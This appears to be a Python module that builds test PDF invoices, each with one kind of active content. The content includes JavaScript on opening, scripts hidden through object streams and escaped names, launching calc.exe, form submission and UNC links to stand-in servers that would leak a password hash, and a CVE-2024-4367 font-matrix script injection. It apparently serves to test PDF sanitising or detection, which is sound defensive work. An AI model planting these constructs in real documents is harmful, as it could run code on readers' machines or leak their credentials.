"""PDFs that act: an invoice each, with one danger in one place (ISO 32000-1, 12.6; places are the page's or catalog's).

What the actions would do is harmless: the addresses end in `.example` (RFC 2606), the programs are calculators.
"""

import io

import pikepdf

from samples.makers.pdf import DATE, EXTRA, invoice_with, objects_with
from samples.makers.pdf_file import stream, update, write

ALERT = b"app.alert\\('Hallo'\\);"


def javascript_on_opening() -> bytes:
    """A script that runs when the file is opened (12.6.4.16)."""
    return invoice_with(catalog=b"/OpenAction << /S /JavaScript /JS (%b) >>" % ALERT)


def javascript_in_name_tree() -> bytes:
    """Document-level scripts run when the file is opened, without any OpenAction (12.6.4.16, 7.7.4)."""
    return invoice_with(
        b"<< /S /JavaScript /JS 11 0 R >>",
        stream(b"app.alert('Hallo');"),
        language="de",
        catalog=b"/Names << /JavaScript << /Names [(start) 10 0 R] >> >>",
    )


def javascript_in_object_stream() -> bytes:
    """The same, with every dictionary packed into a compressed object stream (7.5.7): no token is to be seen."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(javascript_in_name_tree())) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, deterministic_id=True)
    return out.getvalue()


def javascript_in_escaped_names() -> bytes:
    """A name may spell any of its characters as #xx (7.3.5); readers see `/JavaScript`, searches for it do not."""
    return invoice_with(language="fr", catalog=b"/Open#41ction << /#53 /J#61v#61Script /J#53 (%b) >>" % ALERT)


def javascript_in_old_revision() -> bytes:
    """A revision without the script, laid over one that has it; readers that repair may come back to the old one."""
    language = "en"
    old = invoice_with(language=language, catalog=b"/OpenAction << /S /JavaScript /JS (%b) >>" % ALERT)
    return update(old, {1: objects_with(language=language)[1]}, b"/Root 1 0 R /Info 7 0 R")


def launch() -> bytes:
    """A link that starts a program (12.6.4.5)."""
    return _button(b"<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) /O (open) >> >>", language="es")


def page_opening_on_the_web() -> bytes:
    """A web page that opens when the file is opened (7.7.2, OpenAction)."""
    return invoice_with(catalog=b"/OpenAction << /S /URI /URI (https://shop.example/seen?by=0417) >>")


def additional_action() -> bytes:
    """A page that calls home whenever it is shown (12.6.3)."""
    return invoice_with(page=b"/AA << /O << /S /URI /URI (https://shop.example/page?shown=1) >> >>", language="it")


def submit_form() -> bytes:
    """A button that sends the form to an address (12.7.5.2)."""
    return _button(b"<< /S /SubmitForm /F << /FS /URL /F (https://shop.example/collect) >> /Flags 4 >>", language="de")


def import_data() -> bytes:
    """A button that reads form data from a file (12.7.5.4)."""
    return _button(b"<< /S /ImportData /F (C:/Users/Public/data.fdf) >>", language="fr")


def remote_goto() -> bytes:
    """A link into another document on a file server (12.6.4.3)."""
    return _button(b"<< /S /GoToR /F (//files.example/share/other.pdf) /D [0 /Fit] >>", language="en")


def embedded_goto() -> bytes:
    """A link into a document inside the document (12.6.4.4)."""
    return _button(b"<< /S /GoToE /D [0 /Fit] /T << /R /C /N (other.pdf) >> >>", language="nl")


def file_link() -> bytes:
    """A link to a file of the reader's computer (12.6.4.7)."""
    return _button(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>", language="es")


def unknown_action() -> bytes:
    """A button with an action that no standard names: what a reader makes of it is its own affair (12.6.4)."""
    return _button(b"<< /S /ShopSystem /Command (update) >>", language="de")


def all_that_is_lost() -> bytes:
    """A signed invoice with a script, layers, tags and bookmarks: the copy shows its pages, and no more."""
    layer = b"<< /Type /OCG /Name (Prices) >>"
    return invoice_with(
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Seal) /V 11 0 R /Rect [0 0 0 0] /F 132 /P 3 0 R >>",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Name (Kontor Nord) "
        b"/ByteRange [0 1 2 1] /Contents <3030> >>",
        layer,
        b"<< /Type /StructTreeRoot >>",
        b"<< /Type /Outlines /First 15 0 R /Last 15 0 R /Count 1 >>",
        b"<< /Title (Rechnung) /Parent 14 0 R /Dest [3 0 R /Fit] >>",
        language="de",
        catalog=b"/OpenAction << /S /JavaScript /JS (%b) >> /AcroForm << /Fields [10 0 R] /SigFlags 3 >> "
        b"/OCProperties << /OCGs [12 0 R] /D << /Order [12 0 R] >> >> /StructTreeRoot 13 0 R /Outlines 14 0 R" % ALERT,
        page=b"/Annots [10 0 R]",
    )


def highlighted() -> bytes:
    """A script, and a marker drawn over three places at once, through which a reader sees the text (11.3.5)."""
    places = ((50, 655, 250), (330, 715, 200), (50, 595, 500))
    marks = b"".join(
        b"q %d %d %d 20 re W n 1 1 0 rg %d %d 560 20 re f Q\n" % (x, y, wide, x, y) for x, y, wide in places
    )
    corners = b" ".join(b"%d %d %d %d %d %d %d %d" % (x, y + 20, x + w, y + 20, x, y, x + w, y) for x, y, w in places)
    return invoice_with(
        b"<< /Type /Annot /Subtype /Highlight /Rect [0 0 595 842] /QuadPoints [%b] /C [1 1 0] /F 4 "
        b"/AP << /N 11 0 R >> >>" % corners,
        stream(
            b"/Marker gs\n" + marks,
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
            b"/Resources << /ExtGState << /Marker << /BM /Multiply >> >> >>",
        ),
        language="en",
        catalog=b"/OpenAction << /S /JavaScript /JS (%b) >>" % ALERT,
        page=b"/Annots [10 0 R]",
    )


def _button(action: bytes, language: str) -> bytes:
    """Make an invoice with a link that does something when it is clicked."""
    return invoice_with(
        b"<< /Type /Annot /Subtype /Link /Rect [50 250 200 264] /Border [0 0 1] /F 4 /A %b >>" % action,
        language=language,
        page=b"/Annots [10 0 R]",
    )


def sound() -> bytes:
    """A sound on the page (12.5.6.16, 13.3): a quarter of a second of a low tone."""
    tone = bytes(128 + (60 if n // 25 % 2 else -60) for n in range(2000))
    return invoice_with(
        b"<< /Type /Annot /Subtype /Sound /Rect [500 300 520 320] /F 4 /Name /Speaker /Sound 11 0 R >>",
        stream(tone, b"/Type /Sound /R 8000 /C 1 /B 8 /E /Raw"),
        page=b"/Annots [10 0 R]",
    )


def attachment_elsewhere() -> bytes:
    """An attachment that is a path on somebody's server (12.5.6.15, 7.11.2): opening it signs the reader in there."""
    return invoice_with(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [500 300 520 320] /F 4 /Name /PushPin "
        b"/FS (\\\\\\\\files.example\\\\invoices\\\\terms.docx) >>",
        page=b"/Annots [10 0 R]",
    )


def rich_media() -> bytes:
    """Flash on the page (Adobe Supplement to ISO 32000, Extension Level 3, 9.6)."""
    flash = b"FWS\x09\x2b\x00\x00\x00\x78\x00\x05\x5f\x00\x00\x0f\xa0\x00\x00\x0c\x01\x00\x44\x11\x08\x00\x00\x00"
    return invoice_with(
        b"<< /Type /Annot /Subtype /RichMedia /Rect [50 200 250 300] /F 4 /NM (spin) /RichMediaContent 11 0 R "
        b"/RichMediaSettings << /Activation << /Condition /PO >> >> >>",
        b"<< /Assets << /Names [(spin.swf) 12 0 R] >> "
        b"/Configurations [<< /Subtype /Flash /Instances [<< /Asset 12 0 R >>] >>] >>",
        b"<< /Type /Filespec /F (spin.swf) /UF (spin.swf) /EF << /F 13 0 R >> >>",
        stream(flash.ljust(43, b"\x00"), b"/Type /EmbeddedFile /Params << /ModDate %b >>" % DATE),
        page=b"/Annots [10 0 R]",
    )


def external_stream() -> bytes:
    """A picture whose bytes lie on a file server (7.3.8.2, /F); reading it would hand a password hash to its owner."""
    objects = objects_with(
        stream(
            b"",
            b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 "
            b"/F << /Type /Filespec /F (//files.example/share/logo.raw) >>",
        ),
        language="de",
    )
    objects[3] = objects[3].replace(b"/Resources <<", b"/Resources << /XObject << /Logo %d 0 R >>" % EXTRA)
    objects[11] = stream(b"q 60 0 0 60 480 740 cm /Logo Do Q\n")
    objects[3] = objects[3].replace(b"/Contents 4 0 R", b"/Contents [4 0 R 11 0 R]")
    return write(objects, b"/Root 1 0 R /Info 7 0 R")


def font_matrix() -> bytes:
    """A font whose matrix holds text instead of a number, which one viewer ran as a program (CVE-2024-4367)."""
    objects = objects_with(language="en")
    objects[5] = objects[5].replace(
        b"/Subtype /Type1", b"/Subtype /Type1 /FontMatrix [0.001 0 0 0.001 0 (0\\); alert\\('Hallo')]"
    )
    return write(objects, b"/Root 1 0 R /Info 7 0 R")
